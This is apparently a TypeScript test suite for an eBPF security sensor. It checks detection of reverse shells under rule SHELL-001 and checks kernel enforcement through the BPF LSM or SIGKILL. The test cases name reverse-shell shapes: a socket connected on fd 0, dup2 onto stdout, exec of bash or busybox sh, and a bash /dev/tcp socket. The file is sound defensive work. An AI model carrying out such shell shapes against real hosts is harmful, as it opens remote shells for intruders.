  for (const [name, identifiedBy] of [["shell001-read-loop", "behaviour"], ["shell001-split", "name"]] as const) {
    vmIt(`a shell by what it does: ${name} gives exactly one SHELL-001 finding (${identifiedBy})`, () => {
      const c = caseOf(name) as Case & { answered: boolean; outputPort?: number };
      expect(c.answered, c.stderr).toBe(true);
      expect(c.findings.map((f) => f.ruleId)).toEqual(["SHELL-001"]);
      expect(c.findings[0]!.verdict).toMatchObject({ identified_by: identifiedBy });
      expect([c.port, c.outputPort]).toContain(c.findings[0]!.destination?.port);
      expect(c.traceeFindings.filter((f) => f.ruleId === "SHELL-001")).toHaveLength(1);
    });
  }

  // Enforcement's kernel path (bpf/enforce.bpf.c, docs/enforcement.md): where the BPF LSM is
  // active (the boots whose connect runs on lsm/socket_connect) the exec of an interpreter on a
  // connected socket is denied before the new image exists; elsewhere it is killed at
  // sched_process_exec. The dup that completes the shape inside bash is killed at its exit on
  // every boot. Zero bytes reach the listener that sent `id` in each.
  const lsmEnforce = mode.connectProgram === "lsm/socket_connect";
  const ENFORCE_LSM = "lsm/bprm_check_security + tp/syscalls/sys_exit_{dup,dup2,dup3,fcntl}";
  const ENFORCE_SIGNAL = "tp_btf/sched_process_exec + tp/syscalls/sys_exit_{dup,dup2,dup3,fcntl}";
  const NO_ACTIONS: EnforceActions = { execDenied: 0, execKilled: 0, dupKilled: 0, signalFailed: 0 };
  const enforceCase = (name: string, list: "cases" | "afterClose" = "cases"): EnforceCase => {
    const c = r.enforce?.[list].find((x) => x.name === name);
    if (!c) throw new Error(`the guest ran no enforcement case ${name} (${list}): ${JSON.stringify(r.enforce)}`);
    return c;
  };

  vmIt(`enforcement: the sensor opened with enforce loads ${lsmEnforce ? "the BPF LSM path (exec denied)" : "the signal path (SIGKILL at exec)"}, with the guest's bash and busybox sh`, () => {
    expect(r.enforce, "the guest never reached the enforcement cases").toBeDefined();
    expect(r.enforce!.error).toBeNull();
    expect(r.enforce!.interpreters.names).toEqual(expect.arrayContaining(["bash", "sh"]));
    // Known by inode too: bash, and busybox (what /bb/sh leads to; the LSM judges that file).
    expect(r.enforce!.interpreters.byInode).toEqual({ bash: true, busybox: true });
    const rows = r.enforce!.programs!;
    expect(live(rows, "enforce")).toEqual([lsmEnforce ? ENFORCE_LSM : ENFORCE_SIGNAL]);
    const lsmRow = rows.find((x) => x.program === ENFORCE_LSM);
    const signalRow = rows.find((x) => x.program === ENFORCE_SIGNAL);
    if (lsmEnforce) expect(signalRow).toMatchObject({ live: false, reason: "not needed: a preferred candidate is live" });
    // Passed over for the reason the connect row gives, not refused by the verifier.
    else expect(lsmRow!.reason).toMatch(/^bpf is not an active LSM \(.*\): boot with lsm=.*,bpf to use it$/);
  });

  for (const name of ["exec-bash", "exec-sh"]) {
    vmIt(`enforcement: ${name} (connect on fd 0, dup2 onto 1, exec) is ${lsmEnforce ? "denied by the BPF LSM (execve fails with EPERM)" : "killed at sched_process_exec"}, zero bytes`, () => {
      const c = enforceCase(name);
      expect(c.connected, `${name} never connected: ${c.stderr}`).toBe(true);
      expect(c.leaked).toBe(0);
      if (lsmEnforce) {
        // The helper is still itself: execve returned -EPERM, and it said so on its stderr.
        expect({ status: c.status, signal: c.signal }).toEqual({ status: 2, signal: null });
        expect(c.stderr).toMatch(/sockhelper: execl: Operation not permitted/);
        expect(c.actions).toEqual({ ...NO_ACTIONS, execDenied: 1 });
      } else {
        expect({ status: c.status, signal: c.signal }).toEqual({ status: null, signal: "SIGKILL" });
        expect(c.actions).toEqual({ ...NO_ACTIONS, execKilled: 1 });
      }
    });
  }

  vmIt("enforcement: bash's dup onto stdout of its /dev/tcp socket is killed at the dup2's exit, zero bytes", () => {
    const c = enforceCase("dup-bash");
    expect(c.connected, `dup-bash never connected: ${c.stderr}`).toBe(true);
    expect(c.leaked).toBe(0);
    expect({ status: c.status, signal: c.signal }).toEqual({ status: null, signal: "SIGKILL" });
    expect(c.actions).toEqual({ ...NO_ACTIONS, dupKilled: 1 });
  });

  vmIt("enforcement: with the sensor closed the same shapes run and answer `id` (nothing enforces without it)", () => {
    for (const name of ["exec-bash", "exec-sh", "dup-bash"]) {
      const c = enforceCase(name, "afterClose");
      expect({ name, connected: c.connected, signal: c.signal }).toEqual({ name, connected: true, signal: null });
      expect(c.leaked, `${name}: ${c.stderr}`).toBeGreaterThan(0);
    }
    expect(r.enforce!.totals).toEqual(lsmEnforce ? { ...NO_ACTIONS, execDenied: 2, dupKilled: 1 } : { ...NO_ACTIONS, execKilled: 2, dupKilled: 1 });
  });

  vmIt("nothing was lost and no hook counted an error", () => {
    for (const [hook, c] of Object.entries(r.counters!)) {
      expect({ hook, lost: c.lost, errors: c.errors }).toEqual({ hook, lost: 0, errors: 0 });
    }
    expect(r.counters!["connect"]!.emitted).toBeGreaterThanOrEqual(2);
  });
});
